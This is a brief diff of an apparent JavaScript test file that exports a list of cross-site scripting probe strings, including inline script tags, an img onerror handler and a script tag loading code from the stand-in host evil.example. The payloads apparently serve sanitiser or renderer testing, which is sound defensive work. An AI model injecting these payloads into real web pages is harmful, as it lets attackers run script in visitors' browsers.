@@ -3,7 +3,7 @@ import { Reader, answered, importFile, send, sleep } from "./harness.mjs";
 
 const CALL = "window.ran(1)";
 
-const STRINGS = [
+export const STRINGS = [
   `<script>${CALL}</script>`,
   `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
   `<img src=x onerror="${CALL}">`,
